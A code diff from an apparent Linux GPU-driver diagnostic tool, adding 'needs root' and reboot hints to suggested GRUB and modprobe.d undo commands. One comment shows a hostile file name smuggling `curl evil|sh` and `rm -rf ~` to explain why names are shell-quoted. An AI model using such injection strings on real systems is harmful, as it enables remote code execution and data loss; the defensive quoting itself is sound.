@@ -53,10 +53,10 @@ Finding CmdlineFinding(const CmdlineBlock& block) {
   const std::string token = block.token;
   // The token is from /proc/cmdline of the machine: one shell word wherever it is pasted.
   const std::string quoted = ShellQuote(token);
-  std::string undo = "sudoedit /etc/default/grub   # delete " + quoted +
+  std::string undo = "sudoedit /etc/default/grub  # needs root; delete " + quoted +
                      " from GRUB_CMDLINE_LINUX and GRUB_CMDLINE_LINUX_DEFAULT";
   if (token.find(',') != std::string::npos) {
-    undo = "sudoedit /etc/default/grub   # remove amdgpu from " + quoted;
+    undo = "sudoedit /etc/default/grub  # needs root; remove amdgpu from " + quoted;
   }
   return MakeFinding(
       "driver.amdgpu.blacklisted",
@@ -65,7 +65,8 @@ Finding CmdlineFinding(const CmdlineBlock& block) {
       {{"token", token},
        {"undo", undo},
        {"regenerate",
-        "sudo update-grub   # Fedora/RHEL: sudo grubby --update-kernel=ALL --remove-args=" +
+        "sudo update-grub  # needs root; then reboot; Fedora/RHEL: sudo grubby "
+        "--update-kernel=ALL --remove-args=" +
             (IsShellSafeWord(token) ? "\"" + token + "\"" : quoted)}});
 }
 
@@ -79,8 +80,10 @@ Finding ModprobeFinding(const ModprobeRule& rule) {
        {"line", std::to_string(rule.line)},
        // The file name is the machine's (modprobe.d): `x$(curl evil|sh)\nrm -rf ~ #.conf`
        // must stay one quoted word on one line of a command run as root.
-       {"undo", "sudo sed -i '" + std::to_string(rule.line) + "s/^/# /' " + ShellQuote(rule.file)},
-       {"regenerate", "sudo update-initramfs -u   # Fedora/RHEL: sudo dracut -f"}});
+       {"undo", "sudo sed -i '" + std::to_string(rule.line) + "s/^/# /' " +
+                    ShellQuote(rule.file) + "  # needs root"},
+       {"regenerate", "sudo update-initramfs -u  # needs root; then reboot; Fedora/RHEL: sudo "
+                      "dracut -f"}});
 }
 
 // Every AMD GPU already has amdgpu bound: whatever the rules say, they did not stop it (amdgpu
